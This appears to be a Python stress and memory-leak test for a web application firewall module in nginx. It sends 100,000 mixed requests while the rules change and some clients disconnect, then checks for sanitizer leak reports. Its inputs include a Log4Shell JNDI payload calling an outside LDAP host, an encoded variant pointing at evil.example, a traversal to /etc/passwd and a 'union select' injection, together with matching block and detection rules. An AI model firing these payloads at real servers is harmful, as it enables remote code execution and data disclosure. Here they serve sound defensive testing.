#!/usr/bin/env python3
"""guard_leaks.py [REQUESTS] — 100,000 requests of all kinds through the guard, with rules that change and clients that go
away; then what the worker has grown by, and what a sanitizer's build finds lost at its end. Exit status 1 if anything is.

    build-aux/nginx-module build-asan && HIKESHI_BUILD=build-asan tests/bench/guard_leaks.py
"""
import collections, gzip, hashlib, json, os, random, re, shutil, subprocess, sys, tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../e2e"))
from edge import MODULE, Client, Nginx, Upstream, ask, request, wait_for

BAD = "${jndi:ldap://203.0.113.9:1389/a}"
HTTP = """hikeshi report; hikeshi_rules DIR/rules; hikeshi_events DIR/events.json; client_body_buffer_size 2k; keepalive_requests 500;
    hikeshi_exclude arg:template; client_max_body_size 1m;
    server { listen 127.0.0.1:PORT; location / { proxy_pass http://127.0.0.1:UPSTREAM; }
        location /unbuffered { proxy_request_buffering off; proxy_http_version 1.1; proxy_pass http://127.0.0.1:UPSTREAM; }
        location /static { return 200 x; } location /moved { rewrite ^ /static last; }
        location /read { hikeshi_read_body on; return 200 x; } location = /metrics { hikeshi off; hikeshi_metrics; } }"""


def rules(version):
    text = ("hikeshi-rules 1\nversion %d 2021-12-14T09:00:00Z\nsite * block\ndeny callback *.evil.example\n"
            'patch P-1 method=POST path=/ field=json:/note pattern="(?i)union\\s+select"\nsignature S-1 "\\.\\./\\.\\./etc"\n' % version)
    return text + "checksum sha256 %s\n" % hashlib.sha256(text.encode()).hexdigest()


def kinds():
    """name -> (bytes of a request, statuses that are right)"""
    form = [("Content-Type", "application/x-www-form-urlencoded")]
    js = [("Content-Type", "application/json")]
    packed = [("Content-Encoding", "gzip")]
    big = json.dumps([{"note": "text %d" % i} for i in range(400)])
    part = '--b\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\n%s\r\n--b--\r\n'
    return {
        "get": (request("/static?a=1&b=2", headers=[("User-Agent", "Mozilla/5.0"), ("Cookie", "a=b; c=d")]), {200}),
        "bad head": (request("/static", headers=[("X-A", BAD)]), {403}),
        "bad argument": (request("/static?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.evil.example%2Fa%7D"), {403}),
        "almost": (request("/static?q=%24%7Bname%7D%24%7Blower%3Ax%7D", headers=[("X", "${user.id} jndi")]), {200}),
        "signature": (request("/static?q=../../etc/passwd"), {403}),
        "redirect": (request("/moved", headers=[("X-A", BAD)]), {403}),
        "form": (request("/up", headers=form, body="a=1&b=" + "x" * 300), {200}),
        "bad form": (request("/up", headers=form, body="a=1&b=" + BAD), {403}),
        "large JSON": (request("/up", headers=js, body=big), {200}),
        "bad JSON": (request("/up", headers=js, body=big[:-1] + ', {"a": "%s"}]' % BAD), {403}),
        "patch": (request("/up", headers=js, body='{"note": "1 union select 2"}'), {403}),
        "gzip": (request("/up", headers=js + packed, body=gzip.compress(big.encode())), {200}),
        "broken gzip": (request("/up", headers=packed, body=gzip.compress(big.encode())[:40] + b"x" * 50), {200}),
        "bad gzip": (request("/up", headers=packed, body=gzip.compress(BAD.encode())), {403}),
        "chunks": (request("/unbuffered", chunks=[b"a=" + b"x" * 2500, b"y" * 10]), {200}),
        "bad chunks": (request("/unbuffered", chunks=[b"a=" + b"x" * 2500, BAD[:9].encode(), BAD[9:].encode()]), {403}),
        "multipart": (request("/up", headers=[("Content-Type", "multipart/form-data; boundary=b")], body=part % ("z" * 4000)), {200}),
        "XML": (request("/up", headers=[("Content-Type", "text/xml")], body="<a>" + "<b>x</b>" * 300 + "</a>"), {200}),
        "read": (request("/read", body="a=" + BAD), {403}),
        "metrics": (request("/metrics"), {200}),
    }


def resident_kib(pid):
    with open("/proc/%d/status" % pid, encoding="ascii") as f:
        return int(re.search(r"VmRSS:\s+(\d+)", f.read())[1])


class Kept:
    """A connection that is made again when the server has ended it."""

    def __init__(self, port):
        self.port, self.client = port, None

    def ask(self, data):
        for again in (False, True):
            self.client = self.client or Client(self.port)
            try:
                self.client.send(data)
                answer = self.client.answer()
                break
            except (OSError, EOFError):
                self.close()
                if again:
                    raise
        if answer.headers.get("connection") == "close":
            self.close()
        return answer

    def close(self):
        if self.client:
            self.client.s.close()
        self.client = None


def settled_kib(edge, version):
    """What the worker holds when it has the rules that were given last, and none that it makes ready."""
    if not wait_for(lambda: 'version="%d"' % version in ask(edge.port, "/metrics").body.decode(), 60):
        raise AssertionError("version %d of the rules is not in use" % version)
    return resident_kib(edge.worker_pids()[0])


def drive(edge, upstream, requests, progress):
    """(wrong answers, what the worker had half way and at the end)"""
    rng, wrong, half_way, version = random.Random(1), collections.Counter(), 0, 1
    all_kinds = kinds()
    names = list(all_kinds)
    kept = Kept(edge.port)
    for i in range(requests):
        if i % max(requests // 20, 1) == 0:
            version += 1
            edge.write("rules", rules(version))
            upstream.take()
            if progress:
                progress(i, resident_kib(edge.worker_pids()[0]))
        if i == requests // 2:
            half_way = settled_kib(edge, version)
        name = names[rng.randrange(len(names))]
        data, statuses = all_kinds[name]
        if i % 97 == 0:  # a client that goes away
            with Client(edge.port) as c:
                c.send(data[:rng.randrange(1, len(data))])
            continue
        status = kept.ask(data).status
        if status not in statuses:
            wrong[name, status] += 1
    kept.close()
    return wrong, half_way, settled_kib(edge, version)


def sanitizers_env(folder):
    """What a sanitizer's module needs in an nginx that was built without. The module stays loaded to the very end, or
    what it has lost could not be told by name."""
    with open(os.path.join(folder, "stay.c"), "w", encoding="ascii") as f:
        f.write("int dlclose(void *p) { (void)p; return 0; }\n")
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", folder + "/stay.so", folder + "/stay.c"], check=True)
    libs = [subprocess.run(["gcc", "-print-file-name=" + x], capture_output=True, text=True, check=True).stdout.strip()
            for x in ("libasan.so", "libubsan.so")]
    return {"LD_PRELOAD": ":".join([*libs, folder + "/stay.so"]),
            "UBSAN_OPTIONS": "halt_on_error=1:print_stacktrace=1:log_path=DIR/sanitizer",
            "ASAN_OPTIONS": "detect_leaks=1:quarantine_size_mb=1:log_path=DIR/sanitizer"}


def run(requests=100000, env=None, progress=None):
    with open(MODULE, "rb") as f:
        sanitized = b"__asan_init" in f.read()
    env = dict(env or {})
    folder = tempfile.mkdtemp()
    if sanitized:
        env.update(sanitizers_env(folder))
    upstream = Upstream()
    edge = Nginx(HTTP.replace("UPSTREAM", str(upstream.port)), files={"rules": rules(1)}, env=env)
    try:
        edge.start(60)
        wrong, half_way, last = drive(edge, upstream, requests, progress)
    finally:
        edge.stop()
        upstream.stop()
        shutil.rmtree(folder)
    reports = re.split(r"\n(?=(?:Direct|Indirect) leak of )", edge.said)
    leaks = [x for x in reports if re.match("(Direct|Indirect) leak", x) and re.search(r"ngx_http_hikeshi_|\bguard_|\bhs_", x)]
    if re.search("ERROR: AddressSanitizer|runtime error", edge.said):
        leaks.append(edge.said[-6000:])
    return {"requests": requests, "sanitized": sanitized, "wrong": dict(wrong), "alarms": edge.alarms, "leaks": leaks,
            "half_way_kib": half_way, "last_kib": last, "grown_kib": last - half_way, "said": edge.said}


def main():
    report = run(int(sys.argv[1]) if len(sys.argv) > 1 else 100000,
                 progress=lambda i, kib: print("%7d requests, worker at %d KiB" % (i, kib), flush=True))
    for leak in report["leaks"]:
        print(leak)
    print({k: v for k, v in report.items() if k not in ("leaks", "said")})
    grown = report["grown_kib"] > 1024 and not report["sanitized"]  # whose own memory grows
    sys.exit(1 if report["leaks"] or report["wrong"] or report["alarms"] or grown else 0)


if __name__ == "__main__":
    main()
